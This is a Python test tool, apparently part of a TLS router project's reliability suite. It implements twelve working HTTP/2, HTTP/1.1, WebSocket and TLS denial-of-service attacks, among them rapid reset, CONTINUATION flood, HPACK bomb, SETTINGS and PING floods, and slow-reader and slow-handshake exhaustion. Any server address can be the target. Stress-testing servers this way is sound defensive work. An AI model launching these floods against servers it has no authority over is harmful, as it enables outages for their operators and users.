#!/usr/bin/env python3
"""Hostile HTTP/2 clients, frame by frame, against any TLS server (snirouter, nginx,
HAProxy, Caddy): the attacks of docs/reliability.md, each bounded in time.

    h2attack.py ADDR SNI CAFILE ATTACK [--seconds S] [--conns N] [--streams N] [--path P]

Prints one JSON object: what was sent and what the server answered (connections
opened, streams opened, GOAWAY error codes seen, ...). Needs the PyPI `h2` package.
"""

import argparse
import json
import select
import socket
import ssl
import sys
import threading
import time

import h2.config
import h2.connection
import h2.errors
import h2.events
import h2.exceptions
import h2.settings
from hpack import Encoder

MAX_WINDOW = 2**31 - 1


class Conn:
    """One TLS connection speaking HTTP/2 through h2's state machine, with raw
    frames written beside it where the attack needs frames h2 refuses to build."""

    def __init__(self, args):
        ctx = ssl.create_default_context(cafile=args.cafile)
        ctx.set_alpn_protocols(["h2"])
        host, port = args.addr.rsplit(":", 1)
        raw = socket.create_connection((host, int(port)), timeout=10)
        self.sock = ctx.wrap_socket(raw, server_hostname=args.sni)
        if self.sock.selected_alpn_protocol() != "h2":
            raise SystemExit("the server did not choose h2")
        config = h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
        self.h2 = h2.connection.H2Connection(config=config)
        self.sni = args.sni
        self.goaway = None
        self.closed = False
        self.resets_received = 0
        self.responses = 0
        self.data_bytes = 0

    def start(self, window=None):
        self.h2.initiate_connection()
        if window:
            self.h2.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: window})
            self.h2.increment_flow_control_window(MAX_WINDOW - 65535)
        self.flush()

    def flush(self):
        data = self.h2.data_to_send()
        if data:
            self.send_raw(data)

    def send_raw(self, data):
        try:
            self.sock.sendall(data)
        except OSError:
            self.closed = True

    def headers(self, path, end_stream=True):
        sid = self.h2.get_next_available_stream_id()
        hdrs = [(":method", "GET"), (":scheme", "https"), (":authority", self.sni), (":path", path)]
        self.h2.send_headers(sid, hdrs, end_stream=end_stream)
        return sid

    def reset(self, sid):
        self.h2.reset_stream(sid, error_code=h2.errors.ErrorCodes.CANCEL)

    def ping(self, payload=b"pacing!!"):
        self.h2.ping(payload)

    def pump(self, timeout):
        """Reads whatever arrives within `timeout` s; returns the events."""
        events = []
        if self.closed:
            return events
        ready, _, _ = select.select([self.sock], [], [], timeout)
        while ready or self.sock.pending():
            try:
                data = self.sock.recv(65536)
            except (OSError, ssl.SSLError):
                self.closed = True
                break
            if not data:
                self.closed = True
                break
            try:
                got = self.h2.receive_data(data)
            except h2.exceptions.ProtocolError:
                got = []
            for ev in got:
                if isinstance(ev, h2.events.ConnectionTerminated):
                    self.goaway = h2.errors.ErrorCodes(ev.error_code).name if ev.error_code in iter(h2.errors.ErrorCodes) else str(ev.error_code)
                elif isinstance(ev, h2.events.StreamReset):
                    self.resets_received += 1
                elif isinstance(ev, h2.events.ResponseReceived):
                    self.responses += 1
                elif isinstance(ev, h2.events.DataReceived):
                    self.data_bytes += len(ev.data)
                    try:
                        self.h2.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
                    except h2.exceptions.StreamClosedError:
                        pass
            events.extend(got)
            try:
                self.flush()
            except h2.exceptions.ProtocolError:
                pass
            ready, _, _ = select.select([self.sock], [], [], 0)
        return events

    def until(self, pred, timeout):
        end = time.monotonic() + timeout
        while time.monotonic() < end and not self.closed:
            for ev in self.pump(min(0.05, max(0.0, end - time.monotonic()))):
                if pred(ev):
                    return True
        return False

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


def tally(conns, extra=None):
    goaways = {}
    for c in conns:
        if c.goaway:
            goaways[c.goaway] = goaways.get(c.goaway, 0) + 1
    out = {
        "connections": len(conns),
        "goaway": goaways,
        "closed_by_server": sum(1 for c in conns if c.closed),
        "responses": sum(c.responses for c in conns),
        "resets_received": sum(c.resets_received for c in conns),
    }
    out.update(extra or {})
    return out


def slow_reader(args):
    """Opens every window to 2^31-1, asks for a large answer on `streams` streams on
    each of `conns` connections, then never reads its socket for `seconds`."""
    conns, opened = [], 0
    for _ in range(args.conns):
        c = Conn(args)
        c.start(window=MAX_WINDOW)
        c.until(lambda ev: isinstance(ev, h2.events.RemoteSettingsChanged), 5)
        limit = c.h2.remote_settings.max_concurrent_streams
        for _ in range(min(args.streams, limit)):
            c.headers(args.path)
            opened += 1
        c.flush()
        conns.append(c)
    ready_file = getattr(args, "ready_file", None)
    if ready_file:
        open(ready_file, "w").write("stalled\n")
    time.sleep(args.seconds)
    for c in conns:
        c.close()
    return tally(conns, {"streams": opened})


def rapid_reset(args, paced):
    """Opens and at once cancels streams for `seconds`, reconnecting when the server
    closes. Unpaced: batches of 100 in one write. Paced: batches of 10, then a PING,
    and the next batch only once the PING is answered (the server has read the batch),
    which keeps under h2's limit of 20 pending reset streams."""
    batch = 10 if paced else 100
    end = time.monotonic() + args.seconds
    conns, streams = [], 0

    def run():
        nonlocal streams
        while time.monotonic() < end:
            try:
                c = Conn(args)
            except OSError:
                time.sleep(0.01)
                continue
            conns.append(c)
            c.start()
            while time.monotonic() < end and not c.closed and c.goaway is None:
                try:
                    for _ in range(batch):
                        sid = c.headers(args.path)
                        c.reset(sid)
                        streams += 1
                    if paced:
                        c.ping()
                    c.flush()
                except (h2.exceptions.ProtocolError, h2.exceptions.TooManyStreamsError):
                    break
                if paced:
                    c.until(lambda ev: isinstance(ev, h2.events.PingAckReceived), 2)
                else:
                    c.pump(0)
            c.pump(0.05)
            c.close()

    threads = [threading.Thread(target=run) for _ in range(args.conns)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    return tally(conns, {"streams": streams})


def made_you_reset(args):
    """Streams the server must reset itself (a WINDOW_UPDATE of 0 on an open stream is a
    stream error), as fast as it takes them."""
    end = time.monotonic() + args.seconds
    conns, streams = [], 0
    while time.monotonic() < end:
        c = Conn(args)
        conns.append(c)
        c.start()
        while time.monotonic() < end and not c.closed and c.goaway is None:
            for _ in range(50):
                try:
                    sid = c.headers(args.path, end_stream=False)
                except h2.exceptions.TooManyStreamsError:
                    break
                c.flush()
                # WINDOW_UPDATE, stream `sid`, increment 0: h2 refuses to build it.
                c.send_raw(b"\x00\x00\x04\x08\x00" + sid.to_bytes(4, "big") + b"\x00\x00\x00\x00")
                streams += 1
            c.pump(0.01)
        c.close()
    return tally(conns, {"streams": streams})


def frame(kind, flags, sid, payload):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + sid.to_bytes(4, "big") + payload


def continuation_flood(args):
    """One HEADERS without END_HEADERS, then CONTINUATION frames without end."""
    c = Conn(args)
    c.start()
    enc = Encoder()
    block = enc.encode([(":method", "GET"), (":scheme", "https"), (":authority", args.sni), (":path", "/")])
    c.send_raw(frame(0x1, 0x1, 1, block))
    end = time.monotonic() + args.seconds
    sent = 0
    junk = Encoder().encode([("x-flood", "a" * 1000)])
    while time.monotonic() < end and not c.closed:
        c.send_raw(frame(0x9, 0x0, 1, junk) * 16)
        sent += 16 * len(junk)
        c.pump(0)
    c.pump(0.2)
    c.close()
    return tally([c], {"bytes_sent": sent})


def hpack_bomb(args):
    """A 4 KiB header value put in the dynamic table once, then referenced by one-byte
    indices on many streams: tiny frames that decode to huge header lists."""
    c = Conn(args)
    c.start()
    enc = Encoder()
    first = enc.encode([(":method", "GET"), (":scheme", "https"), (":authority", args.sni), (":path", "/"), ("x-bomb", "b" * 4000)])
    c.send_raw(frame(0x1, 0x5, 1, first))
    end = time.monotonic() + args.seconds
    sid, streams = 3, 1
    while time.monotonic() < end and not c.closed and c.goaway is None:
        # Index 62 is the newest dynamic entry (x-bomb); the pseudo-headers as indices.
        block = bytes([0x82, 0x87, 0x84]) + enc.encode([(":authority", args.sni)]) + bytes([0xBE]) * 2000
        c.send_raw(frame(0x1, 0x5, sid, block))
        sid += 2
        streams += 1
        c.pump(0.01)
    c.close()
    return tally([c], {"streams": streams})


def flood(args, one):
    """`one` frame, sent as fast as the socket takes it, never reading the answers."""
    c = Conn(args)
    c.start()
    end = time.monotonic() + args.seconds
    sent = 0
    while time.monotonic() < end and not c.closed:
        c.send_raw(one * 1000)
        sent += 1000
    c.close()
    return tally([c], {"frames": sent})


def settings_flood(args):
    """SETTINGS frames (MAX_CONCURRENT_STREAMS = 100), never reading the ACKs."""
    return flood(args, frame(0x4, 0x0, 0, b"\x00\x03\x00\x00\x00\x64"))


def ping_flood(args):
    """PING frames, never reading the ACKs."""
    return flood(args, frame(0x6, 0x0, 0, b"12345678"))


def slow_hellos(args):
    """`conns` TCP connections that each send a real ClientHello one byte a second;
    reports how many the server closed within `seconds`."""
    host, port = args.addr.rsplit(":", 1)
    ctx = ssl.create_default_context()
    ctx.set_alpn_protocols(["h2", "http/1.1"])
    outgoing = ssl.MemoryBIO()
    tls = ctx.wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname=args.sni)
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        pass
    hello = outgoing.read()
    socks = []
    for _ in range(args.conns):
        s = socket.create_connection((host, int(port)), timeout=10)
        s.setblocking(False)
        socks.append(s)
    start = time.monotonic()
    closed_at = {}
    sent = 0
    while time.monotonic() - start < args.seconds and len(closed_at) < len(socks):
        byte = hello[sent % len(hello):sent % len(hello) + 1]
        sent += 1
        for i, s in enumerate(socks):
            if i in closed_at:
                continue
            try:
                s.send(byte)
                if s.recv(1024) == b"":
                    closed_at[i] = time.monotonic() - start
            except BlockingIOError:
                pass
            except OSError:
                closed_at[i] = time.monotonic() - start
        time.sleep(1)
    for s in socks:
        s.close()
    times = sorted(closed_at.values())
    return {"connections": len(socks), "closed_by_server": len(times), "last_close_s": round(times[-1], 1) if times else None}


def tls_h1(args):
    ctx = ssl.create_default_context(cafile=args.cafile)
    ctx.set_alpn_protocols(["http/1.1"])
    host, port = args.addr.rsplit(":", 1)
    raw = socket.create_connection((host, int(port)), timeout=10)
    return ctx.wrap_socket(raw, server_hostname=args.sni)


def hold(socks, args):
    if args.ready_file:
        open(args.ready_file, "w").write("stalled\n")
    time.sleep(args.seconds)
    for s in socks:
        s.close()


def slow_reader_h1(args):
    """`conns` HTTP/1.1 connections that each ask for a large answer and never read."""
    socks = []
    for _ in range(args.conns):
        s = tls_h1(args)
        s.sendall(f"GET {args.path} HTTP/1.1\r\nHost: {args.sni}\r\n\r\n".encode())
        socks.append(s)
    hold(socks, args)
    return {"connections": len(socks)}


def slow_upstream_upload(args):
    """`conns` HTTP/2 connections with `streams` uploads each to an upstream that never
    reads them: the client sends as much as flow control lets it."""
    conns, sent = [], 0
    chunk = b"u" * 16384
    for _ in range(args.conns):
        c = Conn(args)
        c.start()
        c.until(lambda ev: isinstance(ev, h2.events.RemoteSettingsChanged), 5)
        sids = []
        for _ in range(min(args.streams, c.h2.remote_settings.max_concurrent_streams)):
            sid = c.h2.get_next_available_stream_id()
            c.h2.send_headers(sid, [(":method", "POST"), (":scheme", "https"), (":authority", args.sni), (":path", args.path)])
            sids.append(sid)
        c.flush()
        c.sids = sids
        conns.append(c)
    end = time.monotonic() + min(3.0, args.seconds)
    while time.monotonic() < end:
        for c in conns:
            for sid in c.sids:
                try:
                    n = min(len(chunk), c.h2.local_flow_control_window(sid))
                except (h2.exceptions.StreamClosedError, h2.exceptions.ProtocolError):
                    continue
                if n > 0:
                    c.h2.send_data(sid, chunk[:n])
                    sent += n
            c.flush()
            c.pump(0)
    hold([c.sock for c in conns], args)
    return tally(conns, {"bytes_sent": sent})


def slow_websocket(args):
    """`conns` WebSocket tunnels that send frames as fast as they can and never read
    the echoes."""
    socks, sent = [], 0
    for _ in range(args.conns):
        s = tls_h1(args)
        s.sendall((f"GET {args.path} HTTP/1.1\r\nHost: {args.sni}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
                   "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n").encode())
        head = b""
        while b"\r\n\r\n" not in head:
            head += s.recv(4096)
        if b" 101 " not in head.split(b"\r\n")[0]:
            raise SystemExit(f"no WebSocket: {head[:80]!r}")
        s.setblocking(False)
        socks.append(s)
    payload = b"w" * 16384
    frame_ = bytes([0x82, 0xFF]) + len(payload).to_bytes(8, "big") + b"\x00\x00\x00\x00" + payload
    end = time.monotonic() + min(3.0, args.seconds)
    while time.monotonic() < end:
        for s in socks:
            try:
                sent += s.send(frame_)
            except (BlockingIOError, ssl.SSLWantWriteError):
                pass
    hold(socks, args)
    return {"connections": len(socks), "bytes_sent": sent}


ATTACKS = {
    "slow-reader-h1": slow_reader_h1,
    "slow-upstream-upload": slow_upstream_upload,
    "slow-websocket": slow_websocket,
    "slow-reader": slow_reader,
    "rapid-reset": lambda a: rapid_reset(a, paced=False),
    "paced-reset": lambda a: rapid_reset(a, paced=True),
    "made-you-reset": made_you_reset,
    "continuation-flood": continuation_flood,
    "hpack-bomb": hpack_bomb,
    "settings-flood": settings_flood,
    "ping-flood": ping_flood,
    "slow-hellos": slow_hellos,
}


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("addr")
    p.add_argument("sni")
    p.add_argument("cafile")
    p.add_argument("attack", choices=sorted(ATTACKS))
    p.add_argument("--seconds", type=float, default=5)
    p.add_argument("--conns", type=int, default=1)
    p.add_argument("--streams", type=int, default=200)
    p.add_argument("--path", default="/")
    p.add_argument("--ready-file", help="slow-reader: written once every stream is open")
    args = p.parse_args()
    print(json.dumps(ATTACKS[args.attack](args)))
    sys.stdout.flush()


if __name__ == "__main__":
    main()
